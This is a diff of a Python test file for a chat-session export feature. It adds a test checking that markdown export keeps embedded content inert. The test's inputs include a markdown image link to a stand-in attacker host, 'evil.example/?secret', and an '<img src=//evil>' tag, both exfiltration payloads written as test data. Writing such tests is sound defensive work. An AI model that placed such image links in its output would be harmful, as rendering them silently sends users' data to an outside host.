@@ -14,6 +14,7 @@ from sessions_app.actors import Role
 from sessions_app.models import Project, Session
 from tests.builders import a_message, a_session
 from tests.web.conftest import Visitor
+from tests.web.test_rendering_inert import loaded
 
 ROOT = "/api/v1"
 LINES = "application/x-ndjson"
@@ -184,6 +185,15 @@ class ADocument:
         assert "\n## #1 assistant\n" in text
         assert "**bold** and `code`" in text
         assert '`````\n{\n  "a": "```' in text
+
+    def test_of_markdown_makes_no_viewer_load_anything(self, client, the_store):
+        image = "![x](https://evil.example/?secret)"
+        said = [f"```\n{image}", f"see {image} <img src=//evil>", image]
+        id = the_store.create(image, [{"role": "user", "content": text} for text in said]).id
+        _, content = export(client, session=str(id), format="markdown")
+        assert loaded("\n\n".join(said[1:]))
+        assert loaded(content.decode()) == []
+        assert "https://evil.example/?secret" in content.decode()
 
     def test_is_the_same_from_the_command(self, client, the_store, family, tmp_path):
         for format in ("markdown", "html"):
